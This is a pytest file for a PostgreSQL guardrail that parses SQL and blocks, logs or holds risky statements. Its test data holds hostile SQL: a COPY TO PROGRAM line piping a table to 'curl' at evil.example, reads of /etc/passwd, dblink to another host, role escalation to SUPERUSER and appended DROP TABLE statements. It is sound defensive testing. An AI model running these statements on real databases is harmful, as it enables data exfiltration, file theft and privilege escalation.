"""Guardrail classification by PostgreSQL's parser, rule matching, and the verdict cache."""

from __future__ import annotations

import pytest

from data_plane.core.guardrails import BLOCK, LOG, REQUIRE_APPROVAL, Guardrails
from data_plane.postgres.classify import Unparsable, classify
from data_plane.postgres.guard import StatementGuard
from proctor.dev.seed import PIPELINE_GUARDRAILS, READER_GUARDRAILS


def facts(sql: str):
    [only] = classify(sql)
    return only


@pytest.mark.parametrize(("sql", "command", "classes"), [
    ("SELECT * FROM customers", "SELECT", {"read"}),
    ("select * from CUSTOMERS where id = 1 -- drop table x", "SELECT", {"read"}),
    ("/* DROP TABLE x */ SELECT 1", "SELECT", {"read"}),
    ("INSERT INTO orders (customer_id, amount) VALUES (1, 2)", "INSERT", {"write"}),
    ("UPDATE orders SET status = 'x' WHERE id = 1", "UPDATE", {"write"}),
    ("DELETE FROM orders WHERE id = 1", "DELETE", {"write"}),
    ("MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE", "MERGE", {"write"}),
    ("TRUNCATE orders", "TRUNCATE", {"write"}),
    ("DROP TABLE customers", "DROP TABLE", {"ddl"}),
    ("drop table if exists customers cascade", "DROP TABLE", {"ddl"}),
    ("CREATE TABLE t (id int)", "CREATE TABLE", {"ddl"}),
    ("ALTER TABLE customers ADD COLUMN x int", "ALTER TABLE", {"ddl"}),
    ("CREATE INDEX ON customers (email)", "CREATE INDEX", {"ddl"}),
    ("CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", "CREATE FUNCTION", {"ddl"}),
    ("SELECT * INTO copy_of_customers FROM customers", "SELECT", {"read", "ddl"}),
    ("GRANT SELECT ON customers TO public", "GRANT", {"dcl"}),
    ("REVOKE ALL ON customers FROM app_ro", "REVOKE", {"dcl"}),
    ("CREATE ROLE intruder LOGIN", "CREATE ROLE", {"dcl"}),
    ("ALTER ROLE app_rw SUPERUSER", "ALTER ROLE", {"dcl"}),
    ("GRANT app_rw TO app_ro", "GRANT ROLE", {"dcl"}),
    ("BEGIN", "BEGIN", {"transaction"}),
    ("commit", "COMMIT", {"transaction"}),
    ("COPY customers TO STDOUT", "COPY", {"copy", "read"}),
    ("COPY orders FROM STDIN", "COPY", {"copy", "write"}),
    ("DO $$ BEGIN PERFORM 1; END $$", "DO", {"procedural"}),
    ("DO $body$ BEGIN EXECUTE 'DROP TABLE customers'; END $body$", "DO", {"procedural"}),
    ("CALL do_something()", "CALL", {"procedural"}),
    ("SET search_path = public", "SET", {"utility"}),
    ("VACUUM customers", "VACUUM", {"utility"}),
    ("EXPLAIN DELETE FROM orders", "EXPLAIN", {"utility", "read"}),
    ("EXPLAIN ANALYZE DELETE FROM orders", "EXPLAIN", {"utility", "write"}),
    ("WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone", "SELECT", {"read", "write"}),
    ("PREPARE p AS DELETE FROM orders WHERE id = $1", "PREPARE", {"utility", "write"}),
    ("DECLARE c CURSOR FOR SELECT * FROM customers", "DECLARE CURSOR", {"read"}),
    ("ALTER SYSTEM SET work_mem = '1GB'", "ALTER SYSTEM", {"utility"}),
])
def test_statement_class_and_command(sql: str, command: str, classes: set[str]) -> None:
    got = facts(sql)
    assert got.command == command
    assert got.classes == classes


def test_tables_functions_and_where_are_facts() -> None:
    got = facts("UPDATE app.orders o SET amount = abs(o.amount) FROM customers c WHERE c.id = o.customer_id")
    assert got.tables == {"app.orders", "customers"}
    assert got.functions == {"abs"}
    assert not got.no_where
    assert facts("DELETE FROM orders").no_where
    assert facts("WITH x AS (UPDATE orders SET status = 'a' RETURNING 1) SELECT * FROM x").no_where


@pytest.mark.parametrize("sql", [
    "SELECT pg_terminate_backend(123)",
    "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    "SELECT * FROM pg_ls_dir('.')",
    "SELECT set_config('search_path', 'evil', false)",
    "SELECT lo_import('/etc/passwd')",
    "SELECT dblink_connect('host=elsewhere')",
    "SELECT 1 WHERE EXISTS (SELECT pg_cancel_backend(pid) FROM pg_stat_activity)",
])
def test_side_effect_functions_hidden_in_a_select_are_caught(sql: str) -> None:
    assert facts(sql).denied_functions


def test_set_config_of_a_session_nicety_is_not_a_side_effect_and_is_not_cached_by_shape() -> None:
    assert not facts("SELECT current_setting('jit'), set_config('jit', 'off', false)").denied_functions
    assert facts("SELECT set_config('search_path', 'evil', false)").denied_functions == {"set_config"}
    guard = StatementGuard(PIPELINE_GUARDRAILS)
    # Same shape, different setting: neither verdict may be reused for the other, in either order.
    assert guard.check("SELECT set_config('search_path', 'evil', false)").rule == "no-side-effect-functions"
    assert guard.check("SELECT set_config('jit', 'off', false)").action == "allow"
    assert guard.check("SELECT set_config('search_path', 'evil', false)").rule == "no-side-effect-functions"


def test_copy_program_and_server_files() -> None:
    assert facts("COPY customers TO PROGRAM 'curl -d @- evil.example'").copy_program
    assert facts("COPY customers TO '/tmp/out.csv'").copy_file
    assert not facts("COPY customers TO STDOUT").copy_file


def test_multi_statement_and_unparsable() -> None:
    assert [f.command for f in classify("SELECT 1; DROP TABLE customers; COMMIT")] == ["SELECT", "DROP TABLE", "COMMIT"]
    assert classify("-- nothing but a comment") == []
    with pytest.raises(Unparsable):
        classify("SELEC 1")


def test_strictest_matching_rule_wins_and_allow_cannot_reopen() -> None:
    rules = Guardrails([
        {"name": "allow-everything", "action": "allow", "match": {"classes": ["ddl", "read"]}},
        {"name": "log-reads", "action": "log", "match": {"classes": ["read"]}},
        {"name": "no-ddl", "action": "block", "match": {"classes": ["ddl"]}},
    ])
    verdict = rules.evaluate(classify("DROP TABLE customers"), "DROP TABLE customers")
    assert (verdict.action, verdict.rule) == (BLOCK, "no-ddl")
    assert set(verdict.matched) == {"allow-everything", "no-ddl"}
    assert rules.evaluate(classify("SELECT 1"), "SELECT 1").action == LOG


def test_one_blocked_statement_blocks_the_whole_string() -> None:
    rules = Guardrails([{"name": "no-ddl", "action": "block", "match": {"classes": ["ddl"]}}])
    text = "SELECT 1; DROP TABLE customers"
    assert rules.evaluate(classify(text), text).rule == "no-ddl"
    multi = Guardrails([{"name": "one-at-a-time", "action": "block", "match": {"multi_statement": True}}])
    assert multi.evaluate(classify(text), text).action == BLOCK
    assert multi.evaluate(classify("SELECT 1"), "SELECT 1").action == "allow"


def test_conditions_combine_and_globs_match() -> None:
    rules = Guardrails([
        {"name": "customers-writes", "action": "require_approval",
         "match": {"classes": ["write"], "tables": ["*.customers", "customers"]}},
        {"name": "regex-last-resort", "action": "block", "match": {"regex": r"\bpg_sleep\s*\("}},
    ])
    assert rules.evaluate(classify("DELETE FROM customers WHERE id = 1"), "").action == REQUIRE_APPROVAL
    assert rules.evaluate(classify("DELETE FROM orders WHERE id = 1"), "").action == "allow"
    assert rules.evaluate(classify("UPDATE app.customers SET x = 1 WHERE id = 2"), "").action == REQUIRE_APPROVAL
    text = "SELECT pg_sleep (5)"
    assert rules.evaluate(classify(text), text).rule == "regex-last-resort"


def test_unparsable_is_blocked_by_default_unless_a_rule_decides() -> None:
    strict = Guardrails([{"name": "log-all", "action": "log", "match": {}}])
    assert strict.evaluate(None, "SELEC 1").rule == "unparsable-statement"
    lenient = Guardrails([{"name": "unparsable-logged", "action": "log", "match": {"unparsable": True}}])
    assert lenient.evaluate(None, "SELEC 1").action == LOG


@pytest.mark.parametrize(("sql", "rule"), [
    ("DROP TABLE customers", "no-ddl"),
    ("CREATE ROLE x", "no-dcl"),
    ("SELECT pg_terminate_backend(1)", "no-side-effect-functions"),
    ("DELETE FROM orders", "no-unscoped-writes"),
    ("UPDATE orders SET status = 'x'", "no-unscoped-writes"),
    ("COPY orders TO PROGRAM 'cat'", "no-copy-program"),
])
def test_seeded_pipeline_policy_blocks(sql: str, rule: str) -> None:
    verdict = StatementGuard(PIPELINE_GUARDRAILS).check(sql)
    assert (verdict.action, verdict.rule) == (BLOCK, rule)


def test_seeded_pipeline_policy_logs_inserts_holds_changes_and_allows_reads() -> None:
    guard = StatementGuard(PIPELINE_GUARDRAILS)
    assert guard.check("INSERT INTO orders (customer_id, amount) VALUES (1, 2)").action == LOG
    assert guard.check("UPDATE orders SET status = 'x' WHERE id = 1").rule == "changes-need-approval"
    assert guard.check("DELETE FROM orders WHERE id = 1").action == REQUIRE_APPROVAL
    assert guard.check("SELECT * FROM customers").action == "allow"


def test_seeded_reader_policy_is_read_only() -> None:
    guard = StatementGuard(READER_GUARDRAILS)
    assert guard.check("SELECT * FROM customers").action == "allow"
    assert guard.check("INSERT INTO orders VALUES (1)").rule == "read-only"
    assert guard.check("COPY orders FROM STDIN").rule == "read-only"
    assert guard.check("DO $$ BEGIN END $$").rule == "read-only"


def test_verdicts_are_cached_by_shape_not_by_literal() -> None:
    guard = StatementGuard(PIPELINE_GUARDRAILS)
    for aid in range(50):
        assert guard.check(f"SELECT abalance FROM pgbench_accounts WHERE aid = {aid}").action == "allow"
    assert guard.misses == 1 and guard.hits == 49
    assert guard.check("SELECT abalance FROM pgbench_accounts WHERE aid = 1; DROP TABLE x").rule == "no-ddl"
    assert guard.misses == 2


def test_regex_rules_see_every_literal_even_with_a_warm_cache() -> None:
    guard = StatementGuard([{"name": "no-secret-table", "action": "block", "match": {"regex": "secret_value"}}])
    assert guard.check("SELECT 'harmless'").action == "allow"
    assert guard.check("SELECT 'secret_value'").action == BLOCK
